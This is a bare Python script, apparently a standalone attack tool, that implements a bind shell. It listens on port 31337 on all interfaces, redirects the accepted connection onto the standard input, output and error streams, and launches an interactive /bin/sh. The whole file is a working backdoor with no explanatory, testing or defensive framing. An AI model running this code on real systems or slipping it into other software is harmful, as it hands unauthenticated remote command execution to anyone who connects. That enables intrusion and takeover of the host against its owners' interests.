import os
import socket

srv = socket.socket()
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, _ = srv.accept()
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
os.execl("/bin/sh", "sh", "-i")
